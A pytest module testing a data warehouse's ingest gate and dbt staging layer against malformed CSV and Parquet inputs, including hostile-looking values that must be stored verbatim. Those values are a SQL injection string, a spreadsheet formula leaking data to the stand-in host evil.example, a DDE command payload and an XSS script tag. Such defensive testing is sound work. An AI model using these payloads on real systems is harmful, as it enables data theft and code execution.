"""A corpus of malformed inputs, and where each one ends.

Every case ends in one of three ways, never in a silently dropped row or a bare traceback:

- the ingest gate fails, naming the file (and the line and column where there is one), or warns
  without failing (extra columns, header-only files), naming the file;
- the row is quarantined in stg_<source>__quarantined_rows with a reason code;
- the value is valid, however hostile it looks, and is staged verbatim.

File-level cases call the ingest gate directly. Row-level cases are injected together into one
copy of the demo data (new files beside the demo's), checked with one `dbt build` of the staging
layer; the same build proves row accounting balances, and a second, one-model build proves the
accounting test fails when a staging model loses a row.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import dagster as dg
import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml

from orchestration.raw import RawTable, build_raw_assets, check_raw_table, raw_tables_from_manifest
from orchestration.settings import PROJECT_ROOT
from orchestration.warehouse import connect_warehouse

# One worker runs the whole module, so its module-scoped fixtures run once (docs/test-suite.md).
pytestmark = pytest.mark.xdist_group("malformed_inputs")

AS_OF_DATE = "2026-06-30"  # the demo data's; pins the future-timestamp cutoff to 2026-07-02 00:00
INJECTED_FILE = "zz_malformed_inputs"
BOM_FILE = "zz_with_bom.csv"
STAGED = "staged"
MAX_VALUE_LENGTH = 10_000  # dbt var max_value_length
LONG = "x" * 100_000


# ---- the tables, as the sources yml describes them -----------------------------------------


def _raw_table(source: str, table: str) -> RawTable:
    """The gate's view of one table, built from its sources yml like the Dagster definitions."""
    path = PROJECT_ROOT / "models" / "staging" / source / f"_{source}__sources.yml"
    tables = yaml.safe_load(path.read_text())["sources"][0]["tables"]
    props = next(t for t in tables if t["name"] == table)
    manifest = {
        "sources": {
            f"source.customer_warehouse.{source}.{table}": {
                "source_name": source,
                "name": table,
                "meta": props.get("meta", {}),
                "columns": {column["name"]: column for column in props["columns"]},
            }
        }
    }
    return raw_tables_from_manifest(manifest, lambda _: dg.AssetKey(["raw", source, table]))[0]


ORDER_HEADER = [
    "order_id", "account_id", "email", "phone", "status", "currency", "subtotal_amount",
    "discount_amount", "shipping_amount", "total_amount", "refunded_amount", "ordered_at",
    "updated_at",
]  # fmt: skip
ORDER_ROW = [
    "O1", "A1", "jane@example.com", "", "paid", "USD", "10.00", "", "0.00", "10.00", "",
    "2026-01-01T10:00:00Z", "2026-01-01T10:00:00Z",
]  # fmt: skip


# ---- file-level cases: the ingest gate -----------------------------------------------------


@dataclass(frozen=True)
class FileCase:
    name: str
    table: tuple[str, str]
    write: Callable[[Path], Path]  # writes into the table's folder, returns the file
    problem: tuple[str, ...] = ()  # substrings of the one problem; empty: the gate passes
    warning: tuple[str, ...] = ()  # substrings of the one warning; empty: no warning


def _file(folder: Path, name: str, content: bytes) -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)
    return path


def _csv_bytes(header: list[str], *rows: list[str]) -> bytes:
    return "\n".join(",".join(row) for row in (header, *rows)).encode() + b"\n"


def _parquet(folder: Path, name: str, columns: dict[str, list[Any]]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    pq.write_table(pa.table(columns), folder / name)
    return folder / name


EVENT_COLUMNS = {
    "event_id": ["e1"], "anonymous_id": ["a1"], "event_name": ["login"],
    "occurred_at": ["2026-01-01T10:00:00Z"],
}  # fmt: skip

FILE_CASES = [
    FileCase(
        "zero_byte_csv",
        ("shop", "orders"),
        lambda d: _file(d, "empty.csv", b""),
        problem=("empty file: no header row",),
    ),
    FileCase(
        "header_only_csv",
        ("shop", "orders"),
        lambda d: _file(d, "header_only.csv", _csv_bytes(ORDER_HEADER)),
        warning=("no data rows (an empty export)",),
    ),
    FileCase(
        "latin1_byte_in_a_row",
        ("shop", "customers"),
        lambda d: _file(
            d,
            "latin1.csv",
            b"account_id,last_name,created_at,updated_at\n"
            b"A1,Smith,2026-01-01,2026-01-01\n"
            b"A2,M\xfcller,2026-01-01,2026-01-01\n",
        ),
        problem=("not UTF-8", "byte 0xfc", "line 3, column last_name", "re-export"),
    ),
    FileCase(
        "latin1_byte_in_the_header",
        ("shop", "orders"),
        lambda d: _file(d, "latin1_header.csv", b"order_\xfcid,total_amount\n1,2\n"),
        problem=("not UTF-8", "line 1 (the header)"),
    ),
    FileCase(
        "latin1_byte_past_the_first_read_buffer",
        ("shop", "orders"),
        lambda d: _file(
            d,
            "latin1_late.csv",
            _csv_bytes(ORDER_HEADER, *[ORDER_ROW] * 2000)
            + b"O2,A1,caf\xe9@example.com,,paid,USD,1,,,1,,2026-01-01,2026-01-01\n",
        ),
        problem=("not UTF-8", "line 2002, column email"),
    ),
    FileCase(
        "missing_required_column",
        ("shop", "orders"),
        lambda d: _file(
            d,
            "no_total.csv",
            _csv_bytes(ORDER_HEADER[:9] + ORDER_HEADER[10:], ORDER_ROW[:9] + ORDER_ROW[10:]),
        ),
        problem=("missing required column(s) total_amount", "shop.orders"),
    ),
    FileCase(
        "extra_unexpected_column",
        ("shop", "orders"),
        lambda d: _file(
            d, "extra.csv", _csv_bytes([*ORDER_HEADER, "loyalty_tier"], [*ORDER_ROW, "gold"])
        ),
        warning=("unexpected column(s) loyalty_tier ignored", "shop.orders"),
    ),
    FileCase(
        "utf8_bom",
        ("shop", "orders"),
        lambda d: _file(d, "bom.csv", b"\xef\xbb\xbf" + _csv_bytes(ORDER_HEADER, ORDER_ROW)),
    ),
    FileCase(
        "row_with_an_unquoted_comma",
        ("shop", "orders"),
        lambda d: _file(
            d,
            "ragged.csv",
            _csv_bytes(ORDER_HEADER, ORDER_ROW, [*ORDER_ROW[:4], "paid, rush", *ORDER_ROW[5:]]),
        ),
        problem=("1 row(s) do not have the header's 13 fields", "line 3: 14 fields"),
    ),
    FileCase(
        "row_with_a_missing_field",
        ("shop", "orders"),
        lambda d: _file(d, "short.csv", _csv_bytes(ORDER_HEADER, ORDER_ROW[:-1])),
        problem=("line 2: 12 fields",),
    ),
    FileCase(
        "unterminated_quote",
        ("shop", "orders"),
        lambda d: _file(
            d, "quote.csv", _csv_bytes(ORDER_HEADER, ORDER_ROW) + b'O2,"A1,never closed\n'
        ),
        problem=("line 3", "not valid CSV"),
    ),
    FileCase(
        "nul_byte",
        ("shop", "orders"),
        lambda d: _file(
            d,
            "nul.csv",
            _csv_bytes(ORDER_HEADER, ORDER_ROW, [*ORDER_ROW[:2], "x\x00y", *ORDER_ROW[3:]]),
        ),
        problem=("NUL bytes in line 3",),
    ),
    FileCase(
        "duplicated_header_column",
        ("shop", "orders"),
        lambda d: _file(
            d, "dup_header.csv", _csv_bytes([*ORDER_HEADER, "total_amount"], [*ORDER_ROW, "9.99"])
        ),
        problem=("column(s) total_amount appear more than once",),
    ),
    FileCase(
        "field_larger_than_a_line_can_hold",
        ("shop", "orders"),
        lambda d: _file(
            d,
            "huge.csv",
            _csv_bytes(ORDER_HEADER, [*ORDER_ROW[:2], "y" * 1_100_000, *ORDER_ROW[3:]]),
        ),
        problem=("line 2", "field larger than field limit"),
    ),
    FileCase(
        "damaged_parquet",
        ("web", "events"),
        lambda d: _file(d, "damaged.parquet", b"PAR1 not really"),
        problem=("not a readable Parquet file",),
    ),
    FileCase(
        "parquet_without_a_required_column",
        ("web", "events"),
        lambda d: _parquet(
            d, "no_time.parquet", {k: v for k, v in EVENT_COLUMNS.items() if k != "occurred_at"}
        ),
        problem=("missing required column(s) occurred_at", "web.events"),
    ),
    FileCase(
        "parquet_with_an_extra_column",
        ("web", "events"),
        lambda d: _parquet(d, "extra.parquet", {**EVENT_COLUMNS, "ip_address": ["10.0.0.1"]}),
        warning=("unexpected column(s) ip_address ignored",),
    ),
    FileCase(
        "parquet_without_rows",
        ("web", "events"),
        lambda d: _parquet(
            d, "empty.parquet", {k: pa.array([], pa.string()) for k in EVENT_COLUMNS}
        ),
        warning=("no data rows",),
    ),
]


@pytest.mark.parametrize("case", FILE_CASES, ids=[case.name for case in FILE_CASES])
def test_file_level_case_fails_or_warns_naming_the_file(case: FileCase, tmp_path: Path) -> None:
    table = _raw_table(*case.table)
    path = case.write(table.folder(tmp_path))
    check = check_raw_table(table, tmp_path)

    assert check.files == [path]
    assert len(check.problems) == (1 if case.problem else 0), check.problems
    assert len(check.warnings) == (1 if case.warning else 0), check.warnings
    for messages, expected in ((check.problems, case.problem), (check.warnings, case.warning)):
        for message in messages:
            assert message.startswith(f"{path}: ")
            assert "Traceback" not in message
            for part in expected:
                assert part in message, message


def test_the_ingest_asset_reports_warnings_and_fails_naming_file_and_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Through Dagster: warnings in the asset's metadata, a failure whose message is the gate's."""
    table = _raw_table("shop", "orders")
    assets = build_raw_assets([table])
    monkeypatch.setenv("CW_RAW_DIR", str(tmp_path))
    # Where the gate keeps its scans (Settings.known_scans_path): a folder that does not exist yet.
    monkeypatch.setenv("CW_WAREHOUSE_PATH", str(tmp_path / "warehouse" / "working.duckdb"))
    extra = _file(
        table.folder(tmp_path), "extra.csv", _csv_bytes([*ORDER_HEADER, "note"], [*ORDER_ROW, "x"])
    )

    result = dg.materialize([assets], raise_on_error=False)
    assert result.success
    (materialization,) = result.asset_materializations_for_node("raw_landing_files")
    warnings = materialization.metadata["warnings"].value
    assert str(extra) in warnings and "unexpected column(s) note" in warnings
    assert materialization.metadata["row_count"].value == 1

    bad = _file(table.folder(tmp_path), "latin1.csv", _csv_bytes(ORDER_HEADER) + b"O\xe9,\n")
    result = dg.materialize([assets], raise_on_error=False)
    assert not result.success
    (failure,) = [event for event in result.all_events if event.is_step_failure]
    message = failure.step_failure_data.error.message
    assert "Ingest gate failed" in message
    assert f"{bad}: not UTF-8 text: byte 0xe9 at line 2, column order_id" in message


# ---- row-level cases: one dbt build over the demo data with every case injected ------------


@dataclass(frozen=True)
class RowCase:
    """One injected row: its values over the table's template row, and where it must end."""

    name: str
    table: str  # source__table
    values: dict[str, str | None]
    expected: str  # a rejection reason, or STAGED
    # staged cases: the stg model's columns that must hold the raw value unchanged
    verbatim: tuple[str, ...] = ()
    copies: int = 1


TEMPLATES: dict[str, dict[str, str | None]] = {
    "shop__orders": dict(zip(ORDER_HEADER, ["", "", "mal@example.com", "", "paid", "USD", "10.00",
                                            "", "0.00", "10.00", "", "2026-01-01T10:00:00Z",
                                            "2026-01-01T10:00:00Z"], strict=True)),
    "shop__customers": {
        "account_id": "", "email": "mal@example.com", "phone": "", "first_name": "Mal",
        "last_name": "Formed", "address_line1": "1 Test Street", "city": "Testville",
        "postcode": "12345", "country_code": "US", "date_of_birth": "1980-01-01",
        "acquisition_channel": "organic", "created_at": "2026-01-01T10:00:00Z",
        "updated_at": "2026-01-01T10:00:00Z",
    },
    "shop__order_items": {
        "order_item_id": "", "order_id": "O00000001", "product_id": "SKU0001",
        "product_name": "Test", "category": "beauty", "quantity": "1", "unit_price": "9.99",
        "discount_amount": "", "returned_quantity": "",
    },
    "crm__contacts": {
        "contact_id": "", "email": "mal@example.com", "phone": "", "first_name": "Mal",
        "last_name": "Formed", "company_name": "Test Ltd", "industry": "retail",
        "company_size": "1-10", "lead_source": "event", "lead_status": "new",
        "owner_email": "rep@sales.example.org", "created_at": "2026-01-01T10:00:00Z",
        "updated_at": "2026-01-01T10:00:00Z",
    },
    "support__tickets": {
        "ticket_id": "", "requester_email": "mal@example.com", "requester_phone": "",
        "channel": "email", "priority": "normal", "status": "open", "subject": "Help",
        "created_at": "2026-01-01T10:00:00Z", "first_response_at": "", "resolved_at": "",
        "csat_score": "",
    },
    "consent__events": {
        "consent_event_id": "", "identifier": "mal@example.com", "identifier_type": "email",
        "channel": "email", "purpose": "marketing", "status": "granted",
        "occurred_at": "2026-01-01T10:00:00Z", "source": "signup_form",
    },
    "marketing__spend": {
        "spend_date": "2023-12-01", "channel": "display", "spend_amount": "10.00",
        "currency": "USD",
    },
    "marketing__campaigns": {
        "campaign_id": "", "channel": "email", "campaign_name": "Test", "sent_at": "",
        "cost_amount": "", "currency": "",
    },
    "billing__subscriptions": {
        "subscription_id": "", "account_id": "A0000001", "plan": "basic",
        "billing_period": "monthly", "mrr_amount": "9.99", "currency": "USD", "status": "active",
        "started_at": "2026-01-01T10:00:00Z", "cancelled_at": "",
    },
    "surveys__nps_responses": {
        "response_id": "", "email": "mal@example.com", "score": "9", "comment": "",
        "responded_at": "2026-01-01T10:00:00Z",
    },
    "loyalty__members": {
        "loyalty_id": "", "email": "mal@example.com", "phone": "", "tier": "bronze",
        "points_balance": "10", "joined_at": "2026-01-01T10:00:00Z",
        "updated_at": "2026-01-01T10:00:00Z",
    },
    "privacy__erasure_requests": {
        "erasure_request_id": "", "identifier": "mal@example.com", "identifier_type": "email",
        "requested_at": "2026-01-01T10:00:00Z", "source": "web_form",
    },
    "web__events": {
        "event_id": "", "anonymous_id": "anon-mal", "user_id": None, "event_name": "page_view",
        "platform": "web", "page_url": "https://shop.example.com/", "properties": None,
        "occurred_at": "2026-01-01T10:00:00Z",
    },
    "email__engagement_events": {
        "email_event_id": "", "campaign_id": "CMP0002", "email": "mal@example.com",
        "event_type": "open", "bounce_type": None, "url": None,
        "occurred_at": "2026-01-01T10:00:00Z",
    },
}  # fmt: skip
KEYS = {
    "shop__orders": "order_id", "shop__customers": "account_id",
    "shop__order_items": "order_item_id", "crm__contacts": "contact_id",
    "support__tickets": "ticket_id", "consent__events": "consent_event_id",
    "marketing__campaigns": "campaign_id", "billing__subscriptions": "subscription_id",
    "surveys__nps_responses": "response_id", "loyalty__members": "loyalty_id",
    "privacy__erasure_requests": "erasure_request_id", "web__events": "event_id",
    "email__engagement_events": "email_event_id",
}  # fmt: skip
PARQUET_TABLES = ("web__events", "email__engagement_events")

SQL_INJECTION = "Robert'); DROP TABLE customers;--"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
DDE = "=cmd|' /C calc'!A0"
EMOJI = "Zoë 😀🎉👩‍👩‍👧"
RTL = "\u200fמשה כהן\u200f"
RTL_OVERRIDE = "\u202egnp.exe"
COMBINING = "Mu\u0308ller Jose\u0301"
CJK = "株式会社テスト 🚀"
HTML = "<script>alert('x')</script>"


def _case(
    name: str,
    table: str,
    expected: str,
    verbatim: list[str] | tuple[str, ...] = (),
    copies: int = 1,
    **values: str | None,
) -> RowCase:
    return RowCase(name, table, values, expected, tuple(verbatim), copies)


ROW_CASES = [
    # wrong types
    _case("comma_decimal_amount", "shop__orders", "unparseable_amount:total_amount",
          total_amount="12,50"),
    _case("day_month_year_timestamp", "shop__orders", "unparseable_timestamp:ordered_at",
          ordered_at="31/12/2025 10:00"),
    _case("word_for_a_timestamp", "shop__orders", "unparseable_timestamp:ordered_at",
          ordered_at="infinity"),
    _case("epoch_keyword_timestamp", "consent__events", "unparseable_timestamp:occurred_at",
          occurred_at="epoch"),
    _case("fractional_integer", "shop__order_items", "unparseable_integer:quantity",
          quantity="2.5"),
    _case("fractional_points", "loyalty__members", "unparseable_integer:points_balance",
          points_balance="12.5"),
    _case("text_timestamp_word_in_parquet", "web__events", "unparseable_timestamp:occurred_at",
          occurred_at="yesterday"),
    # impossible dates
    _case("impossible_timestamp", "shop__orders", "unparseable_timestamp:ordered_at",
          ordered_at="2025-02-30T10:00:00Z"),
    _case("impossible_date", "shop__customers", "unparseable_date:date_of_birth",
          date_of_birth="2025-02-30"),
    _case("impossible_ticket_time", "support__tickets", "unparseable_timestamp:created_at",
          created_at="2025-02-30T10:00:00Z"),
    # future timestamps and dates (cutoff: end of the as-of day + 24 h = 2026-07-02 00:00 UTC)
    _case("far_future_timestamp", "shop__orders", "future_timestamp:ordered_at",
          ordered_at="2099-01-01T00:00:00Z"),
    _case("just_past_the_cutoff", "shop__orders", "future_timestamp:ordered_at",
          ordered_at="2026-07-02T00:00:01Z"),
    _case("within_the_tolerance", "shop__orders", STAGED,
          ordered_at="2026-07-01T23:59:00Z"),
    _case("future_event", "web__events", "future_timestamp:occurred_at",
          occurred_at="2099-01-01T00:00:00Z"),
    _case("future_join", "loyalty__members", "future_timestamp:joined_at",
          joined_at="2026-07-03T00:00:00+01:00"),
    _case("future_birth_date", "shop__customers", "future_date:date_of_birth",
          date_of_birth="2090-01-01"),
    _case("future_spend_date", "marketing__spend", "future_date:spend_date",
          spend_date="2099-12-31"),
    # NaN, infinity, negative amounts
    _case("nan_amount", "shop__orders", "unparseable_amount:total_amount",
          total_amount="NaN"),
    _case("inf_amount", "shop__orders", "unparseable_amount:subtotal_amount",
          subtotal_amount="inf"),
    _case("negative_infinity_price", "shop__order_items", "unparseable_amount:unit_price",
          unit_price="-Infinity"),
    _case("infinity_spend", "marketing__spend", "unparseable_amount:spend_amount",
          spend_date="2023-12-02", spend_amount="Infinity"),
    _case("negative_amount", "shop__orders", "negative_amount:total_amount",
          total_amount="-5.00"),
    _case("negative_mrr", "billing__subscriptions", "negative_amount:mrr_amount",
          mrr_amount="-9.99"),
    # missing required values, invalid values, out of range
    _case("empty_required_currency", "shop__orders", "missing_required:currency",
          currency=""),
    _case("blank_required_timestamp", "crm__contacts", "missing_required:updated_at",
          updated_at="   "),
    _case("null_required_in_parquet", "web__events", "missing_required:anonymous_id",
          anonymous_id=None),
    _case("cost_without_currency", "marketing__campaigns", "missing_required:currency",
          cost_amount="100.00"),
    _case("unknown_status", "shop__orders", "invalid_value:status",
          status="shipped?"),
    _case("unknown_consent_status", "consent__events", "invalid_value:status",
          status="maybe"),
    _case("unknown_event_type", "email__engagement_events", "invalid_value:event_type",
          event_type="opened!"),
    _case("zero_quantity", "shop__order_items", "out_of_range:quantity",
          quantity="0"),
    _case("csat_above_five", "support__tickets", "out_of_range:csat_score",
          csat_score="6"),
    _case("nps_above_ten", "surveys__nps_responses", "out_of_range:score",
          score="11"),
    # unknown currency
    _case("unknown_currency", "shop__orders", "unknown_currency:ZZZ",
          currency="ZZZ"),
    _case("crypto_currency", "marketing__spend", "unknown_currency:BTC",
          spend_date="2023-12-03", currency="btc"),
    # bad emails
    _case("email_with_a_space", "shop__customers", "invalid_email:email",
          email="jane doe@example.com"),
    _case("email_with_two_ats", "shop__customers", "invalid_email:email",
          email="jane@@example.com"),
    _case("email_without_at", "support__tickets", "invalid_email:requester_email",
          requester_email="not-an-email"),
    _case("email_spelled_out", "shop__orders", "invalid_email:email",
          email="jane.doe(at)example.com"),
    _case("email_without_domain", "email__engagement_events", "invalid_email:email",
          email="bob@"),
    _case("owner_email_without_domain", "crm__contacts", "invalid_email:owner_email",
          owner_email="kelly.ball"),
    # very long strings (limit: max_value_length = 10,000 characters)
    _case("long_address", "shop__customers", "too_long:address_line1",
          address_line1=LONG),
    _case("long_company_name", "crm__contacts", "too_long:company_name",
          company_name=LONG),
    _case("long_url_in_parquet", "web__events", "too_long:page_url",
          page_url="https://x.example/?" + LONG),
    _case("value_at_the_limit", "shop__customers", STAGED, ["city"],
          city="y" * MAX_VALUE_LENGTH),
    # duplicate keys with conflicting values: same key, same version, same file (see _case_rows)
    _case("conflicting_order_versions", "shop__orders", "conflicting_duplicate:order_id",
          copies=2),
    _case("conflicting_consent", "consent__events", "conflicting_duplicate:consent_event_id",
          copies=2),
    _case("conflicting_spend", "marketing__spend", "conflicting_duplicate:spend_date|channel",
          copies=2, spend_date="2023-12-04"),
    _case("conflicting_spend_channel_case", "marketing__spend",
          "conflicting_duplicate:spend_date|channel", copies=2, spend_date="2023-12-05"),
    # documented dedupes: exact duplicates collapse, a later version supersedes
    _case("exact_duplicate", "shop__orders", STAGED, copies=2),
    _case("superseded_version", "shop__orders", STAGED, copies=2),
    # hostile but valid: staged verbatim
    _case("sql_injection_name", "shop__customers", STAGED, ["last_name"],
          last_name=SQL_INJECTION),
    _case("formula_injection_name", "shop__customers", STAGED, ["first_name"],
          first_name=FORMULA),
    _case("emoji_name", "shop__customers", STAGED, ["first_name"],
          first_name=EMOJI),
    _case("rtl_name", "shop__customers", STAGED, ["last_name", "city"],
          last_name=RTL, city=RTL_OVERRIDE),
    _case("combining_accents", "shop__customers", STAGED, ["last_name"],
          last_name=COMBINING),
    _case("html_in_address", "shop__customers", STAGED, ["address_line1"],
          address_line1=HTML),
    _case("cjk_company", "crm__contacts", STAGED, ["company_name"],
          company_name=CJK),
    _case("unicode_comment", "surveys__nps_responses", STAGED, ["comment"],
          comment="Great 👍 — شكرا — e\u0301"),
    _case("dde_subject", "support__tickets", STAGED, ["subject"],
          subject=DDE),
    _case("injection_in_event_json", "web__events", STAGED, ["properties"],
          properties=json.dumps({"q": SQL_INJECTION})),
    _case("unicode_erasure_identifier", "privacy__erasure_requests", STAGED, ["identifier"],
          identifier="josé@exämple.com"),
]  # fmt: skip


def _case_rows(case: RowCase) -> list[dict[str, str | None]]:
    row = {**TEMPLATES[case.table], **case.values}
    if case.table in KEYS:
        row[KEYS[case.table]] = f"MAL-{case.name}"
    if case.table == "marketing__spend" and "spend_date" not in case.values:
        raise AssertionError(f"{case.name}: give each spend case its own spend_date")
    rows = [dict(row) for _ in range(case.copies)]
    if case.name == "conflicting_order_versions":
        rows[1]["total_amount"] = "12.00"
    elif case.name == "conflicting_consent":
        rows[1]["status"] = "revoked"
    elif case.name == "conflicting_spend":
        rows[1]["spend_amount"] = "99.00"
    elif case.name == "conflicting_spend_channel_case":
        rows[1]["channel"], rows[1]["spend_amount"] = "Display", "99.00"
    elif case.name == "superseded_version":
        rows[0]["status"], rows[1]["status"] = "placed", "delivered"
        rows[1]["updated_at"] = "2026-01-05T10:00:00Z"
    return rows


def _record_key(case: RowCase) -> str:
    """The case's key as the quarantine and staging models write it (spend: date|channel)."""
    row = _case_rows(case)[0]
    if case.table == "marketing__spend":
        return f"{row['spend_date']}|{row['channel']}".lower()
    return str(row[KEYS[case.table]])


def _inject(raw_dir: Path) -> dict[str, int]:
    """Write every case into new files beside the demo's; the injected row count per table."""
    rows_by_table: dict[str, list[dict[str, str | None]]] = {}
    for case in ROW_CASES:
        rows_by_table.setdefault(case.table, []).extend(_case_rows(case))
    for table, rows in rows_by_table.items():
        folder = raw_dir.joinpath(*table.split("__"))
        if table in PARQUET_TABLES:
            columns = {name: [row[name] for row in rows] for name in TEMPLATES[table]}
            pq.write_table(pa.table(columns), folder / f"{INJECTED_FILE}.parquet")
        else:
            with (folder / f"{INJECTED_FILE}.csv").open("w", newline="", encoding="utf-8") as out:
                writer = csv.DictWriter(out, fieldnames=list(TEMPLATES[table]))
                writer.writeheader()
                writer.writerows(rows)
    # A file with a byte-order mark: its first column (the key) must arrive clean.
    bom_row = {**TEMPLATES["support__tickets"], "ticket_id": "MAL-bom_file", "subject": "BOM"}
    with (raw_dir / "support" / "tickets" / BOM_FILE).open(
        "w", newline="", encoding="utf-8-sig"
    ) as out:
        writer = csv.DictWriter(out, fieldnames=list(bom_row))
        writer.writeheader()
        writer.writerow(bom_row)
    counts = {table: len(rows) for table, rows in rows_by_table.items()}
    counts["support__tickets"] += 1
    return counts


def _dbt(args: list[str], environment: dict[str, str], root: Path) -> subprocess.CompletedProcess:
    return subprocess.run(
        [str(Path(sys.executable).parent / "dbt"), *args, "--target-path", str(root / "target"),
         "--log-path", str(root / "logs"), "--vars", json.dumps({"as_of_date": AS_OF_DATE})],
        cwd=PROJECT_ROOT, env=environment, capture_output=True, text=True, check=False,
    )  # fmt: skip


@dataclass(frozen=True)
class CorpusBuild:
    root: Path
    environment: dict[str, str]
    demo_row_counts: dict[str, int]
    injected_row_counts: dict[str, int]
    quarantined: dict[tuple[str, str], list[str]]  # (source_table, record_key) -> reasons
    quarantined_files: set[str]
    staged: dict[tuple[str, str], dict[str, Any]]  # (source_table, key) -> stg row
    staged_counts: dict[tuple[str, str], int]
    accounting: dict[str, dict[str, int]]
    run_results: list[dict[str, Any]]


STAGING_MODELS = {table: f"stg_{table}" for table in TEMPLATES}
STAGED_KEY_COLUMNS = {**KEYS, "marketing__spend": "marketing_spend_id"}


@pytest.fixture(scope="module")
def corpus_build(demo_data, tmp_path_factory: pytest.TempPathFactory) -> CorpusBuild:
    """One `dbt build` of the staging layer over the demo data with every row case injected.

    The build runs with as_of_date set to the demo data's as-of date so that the future-timestamp
    cutoff is fixed (without it the cutoff follows the clock). max_rejected_share keeps its
    default: each table receives few enough bad rows to stay under it, so the build must pass.
    """
    root = tmp_path_factory.mktemp("malformed")
    raw_dir = root / "raw"
    shutil.copytree(demo_data[0], raw_dir)
    demo_row_counts = {
        f"{source}__{table}": check_raw_table(_raw_table(source, table), raw_dir).row_count
        for source, table in (key.split("__") for key in STAGING_MODELS)
    }
    injected = _inject(raw_dir)
    environment = {
        **os.environ,
        "CW_RAW_DIR": str(raw_dir),
        "CW_WAREHOUSE_PATH": str(root / "working.duckdb"),
        "CW_DUCKDB_TEMP_DIR": str(root / "tmp"),
    }
    completed = _dbt(
        ["build", "--select", "+staging", "--exclude-resource-type", "unit_test"], environment, root
    )
    assert completed.returncode == 0, completed.stdout[-5000:]
    run_results = json.loads((root / "target" / "run_results.json").read_text())["results"]

    quarantined: dict[tuple[str, str], list[str]] = {}
    staged: dict[tuple[str, str], dict[str, Any]] = {}
    staged_counts: dict[tuple[str, str], int] = {}
    with connect_warehouse(root / "working.duckdb") as connection:
        sources = sorted({table.split("__")[0] for table in TEMPLATES})
        union = " union all ".join(
            f"select * from staging.stg_{source}__quarantined_rows" for source in sources
        )
        injected_files = [f"%/{INJECTED_FILE}.%", f"%/{BOM_FILE}"]
        rows = connection.execute(
            f"select source_table, record_key, rejection_reason, source_file from ({union}) "
            "where source_file like ? or source_file like ?",
            injected_files,
        ).fetchall()
        for source_table, record_key, reason, _ in rows:
            if source_table == "marketing__spend":
                record_key = record_key.lower()  # staging dedupes spend on lower(channel)
            quarantined.setdefault((source_table, record_key), []).append(reason)
        quarantined_files = {Path(row[3]).name for row in rows}
        for case in ROW_CASES:
            key_column = STAGED_KEY_COLUMNS[case.table]
            cursor = connection.execute(
                f"select * from staging.{STAGING_MODELS[case.table]} where {key_column} = ?",
                [_record_key(case)],
            )
            names = [column[0] for column in cursor.description]
            found = [dict(zip(names, row, strict=True)) for row in cursor.fetchall()]
            staged_counts[(case.table, _record_key(case))] = len(found)
            if found:
                staged[(case.table, _record_key(case))] = found[0]
        cursor = connection.execute("select * from staging.stg_row_accounting")
        names = [column[0] for column in cursor.description]
        accounting = {row[0]: dict(zip(names, row, strict=True)) for row in cursor.fetchall()}
        bom = connection.execute(
            "select ticket_id, subject from staging.stg_support__tickets where source_file like ?",
            [f"%/{BOM_FILE}"],
        ).fetchall()
        staged[("support__tickets", "MAL-bom_file")] = (
            dict(zip(["ticket_id", "subject"], bom[0], strict=True)) if bom else {}
        )
    return CorpusBuild(
        root, environment, demo_row_counts, injected, quarantined, quarantined_files, staged,
        staged_counts, accounting, run_results,
    )  # fmt: skip


def test_the_corpus_holds_at_least_30_cases_over_every_source() -> None:
    file_cases, row_cases = len(FILE_CASES), len(ROW_CASES)
    assert file_cases + row_cases >= 30
    assert len({case.name for case in ROW_CASES}) == row_cases
    injected_sources = {case.table.split("__")[0] for case in ROW_CASES}
    assert injected_sources == {table.split("__")[0] for table in TEMPLATES}
    assert {case.table for case in ROW_CASES} == set(TEMPLATES)


@pytest.mark.parametrize(
    "case", [c for c in ROW_CASES if c.expected != STAGED], ids=lambda case: case.name
)
def test_malformed_row_is_quarantined_with_its_reason(case: RowCase, corpus_build) -> None:
    key = (case.table, _record_key(case))
    assert corpus_build.quarantined.get(key) == [case.expected] * case.copies
    assert corpus_build.staged_counts[key] == 0


@pytest.mark.parametrize(
    "case", [c for c in ROW_CASES if c.expected == STAGED], ids=lambda case: case.name
)
def test_valid_row_is_staged_once_with_its_values_verbatim(case: RowCase, corpus_build) -> None:
    key = (case.table, _record_key(case))
    assert key not in corpus_build.quarantined
    assert corpus_build.staged_counts[key] == 1
    staged, written = corpus_build.staged[key], _case_rows(case)[-1]
    for column in case.verbatim:
        assert staged[column] == written[column], column
    if case.name == "superseded_version":
        assert staged["order_status"] == "delivered"


def test_a_bom_file_is_staged_with_a_clean_first_column(corpus_build) -> None:
    assert corpus_build.staged[("support__tickets", "MAL-bom_file")] == {
        "ticket_id": "MAL-bom_file",
        "subject": "BOM",
    }


def test_only_the_expected_rows_of_the_injected_files_are_quarantined(corpus_build) -> None:
    expected = {(case.table, _record_key(case)) for case in ROW_CASES if case.expected != STAGED}
    assert set(corpus_build.quarantined) == expected
    assert corpus_build.quarantined_files == {f"{INJECTED_FILE}.csv", f"{INJECTED_FILE}.parquet"}


def test_the_quarantine_gate_and_the_accounting_test_pass_on_the_corpus(corpus_build) -> None:
    results = {r["unique_id"]: r["status"] for r in corpus_build.run_results}
    share_tests = [uid for uid in results if "quarantined_share_within_limit" in uid]
    assert len(share_tests) == 14 and all(results[uid] == "pass" for uid in share_tests)
    (accounting_test,) = [uid for uid in results if "assert_raw_rows_are_accounted_for" in uid]
    assert results[accounting_test] == "pass"


def test_row_accounting_balances_and_counts_every_injected_row(corpus_build) -> None:
    accounting = corpus_build.accounting
    declared = {
        f"{source['name']}__{table['name']}"
        for path in (PROJECT_ROOT / "models" / "staging").glob("*/_*__sources.yml")
        for source in yaml.safe_load(path.read_text())["sources"]
        for table in source["tables"]
    }
    assert set(accounting) == declared == set(STAGING_MODELS)
    for table, counts in accounting.items():
        expected_raw = corpus_build.demo_row_counts[table] + corpus_build.injected_row_counts[table]
        assert counts["raw_row_count"] == expected_raw, table
        assert counts["unaccounted_row_count"] == 0, counts
        assert counts["raw_row_count"] == (
            counts["staged_row_count"]
            + counts["quarantined_row_count"]
            + counts["exact_duplicate_row_count"]
            + counts["superseded_row_count"]
        )
    assert accounting["shop__orders"]["exact_duplicate_row_count"] >= 1
    assert accounting["shop__orders"]["superseded_row_count"] >= 1


